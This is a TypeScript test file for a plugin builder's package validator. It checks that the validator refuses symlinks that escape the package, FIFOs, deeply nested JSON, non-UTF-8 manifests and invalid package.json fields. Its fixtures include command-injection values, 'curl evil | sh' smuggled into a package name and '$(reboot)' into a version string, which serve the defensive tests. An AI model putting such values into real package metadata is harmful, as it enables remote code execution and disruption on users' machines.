/**
 * The JSON files the builder reads from a package (package.json, the manifest, openclaw.plugin.json) are held to
 * the same rules as plugin trees: inside the package, regular files, small. A FIFO never hangs a build, and a
 * link to a file outside the package is never read (so none of its bytes reach an error message).
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { CLI, makeWorkspace, manifestFor, pluginFiles, problemsOf, withPlugin } from "./workspace.js";

const A = "interventions/a-fix";

function check(root: string) {
  // A hang is the failure this guards against: the timeout turns it into a failed assertion, not a stuck suite.
  return spawnSync(process.execPath, [CLI, "check", "--workspace", root], {
    encoding: "utf8",
    timeout: 30_000,
  });
}

function secret(root: string): string {
  const file = join(root, "..", `${root.split("/").pop()}-secret.json`);
  writeFileSync(file, '{"token": "s3cr3t-outside-the-package"}');
  return file;
}

describe("package files the builder reads", () => {
  it.each([
    ["manifest.json", /manifest file is a link leaving the package/],
    ["package.json", /package.json is a link leaving the package/],
  ])("refuses a %s linked to a file outside the package, without reading it", async (name, message) => {
    const root = makeWorkspace({ [A]: {} });
    const target = join(root, A, name);
    rmSync(target);
    symlinkSync(secret(root), target);
    const run = check(root);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(message);
    expect(run.stderr).not.toContain("s3cr3t");
  });

  it("follows a link that stays inside the package", async () => {
    const root = makeWorkspace({ [A]: {} });
    const manifest = join(root, A, "manifest.json");
    mkdirSync(join(root, A, "meta"));
    writeFileSync(join(root, A, "meta/manifest.json"), JSON.stringify(manifestFor("a-fix")));
    rmSync(manifest);
    symlinkSync("meta/manifest.json", manifest);
    expect(await problemsOf(root)).toEqual([]);
  });

  it.each(["manifest.json", "package.json", "plugin/openclaw.plugin.json"])(
    "refuses a FIFO as %s promptly instead of hanging",
    (name) => {
      const root = makeWorkspace({ [A]: { manifest: withPlugin("a-fix"), files: pluginFiles("p-compat") } });
      rmSync(join(root, A, name));
      expect(spawnSync("mkfifo", [join(root, A, name)]).status).toBe(0);
      const run = check(root);
      expect(run.error).toBeUndefined(); // not killed by the timeout
      expect(run.status).toBe(1);
      expect(run.stderr).toMatch(/is not a regular file|FIFO/);
    },
  );

  it("refuses a manifest that is a folder, with a problem rather than a stack trace", () => {
    const root = makeWorkspace({ [A]: {} });
    rmSync(join(root, A, "manifest.json"));
    mkdirSync(join(root, A, "manifest.json"));
    const run = check(root);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/manifest file is not a regular file/);
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  it.each(["manifest.json", "plugin/openclaw.plugin.json"])(
    "refuses %s nested deeper than the limit, with its pointer instead of a stack overflow",
    async (name) => {
      const root = makeWorkspace({ [A]: { manifest: withPlugin("a-fix"), files: pluginFiles("p-compat") } });
      const deep = `{"id":"x","configSchema":{"a":${"[".repeat(100_000)}${"]".repeat(100_000)}}}`;
      writeFileSync(join(root, A, name), deep);
      const problems = await problemsOf(root);
      expect(problems).toContainEqual({
        file: `${A}/${name}`,
        pointer: `/configSchema/a${"/0".repeat(62)}`,
        message: expect.stringMatching(
          /^nested deeper than 64 levels at .*: no real document needs that, flatten it$/,
        ),
      });
    },
  );

  it("refuses a manifest that is not UTF-8, naming the byte offset, instead of reading U+FFFD", async () => {
    const root = makeWorkspace({ [A]: {} });
    const text = JSON.stringify(manifestFor("a-fix"));
    const at = text.indexOf('"description":"') + '"description":"'.length;
    const bytes = Buffer.concat([
      Buffer.from(text.slice(0, at)),
      Buffer.from([0xff]),
      Buffer.from(text.slice(at)),
    ]);
    writeFileSync(join(root, A, "manifest.json"), bytes);
    expect(await problemsOf(root)).toContainEqual({
      file: `${A}/manifest.json`,
      pointer: "",
      message: `manifest file is not valid UTF-8 (the first bad byte is at offset ${at}): save it as UTF-8`,
    });
  });

  it.each([
    [{ name: "@test/a-fix; curl evil | sh" }, "/name", /must be an npm package name/],
    [{ version: "1.0.0$(reboot)" }, "/version", /must be a semantic version/],
    [{ version: 1 }, "/version", /expected string, found a number/],
  ])("refuses package.json %j, which would be staged verbatim", async (pkg, pointer, message) => {
    const root = makeWorkspace({ [A]: { pkg } });
    const problems = await problemsOf(root);
    expect(problems).toContainEqual({
      file: `${A}/package.json`,
      pointer,
      message: expect.stringMatching(message),
    });
  });

  it("refuses modelSetup.manifest pointing into node_modules", async () => {
    const root = makeWorkspace({
      [A]: { pkg: { modelSetup: { manifest: "node_modules/x/manifest.json" } } },
    });
    const problems = await problemsOf(root);
    expect(problems).toContainEqual({
      file: `${A}/package.json`,
      pointer: "/modelSetup/manifest",
      message:
        'must be a file of the package, not of node_modules: the field must be {"manifest": "manifest.json"}',
    });
  });
});
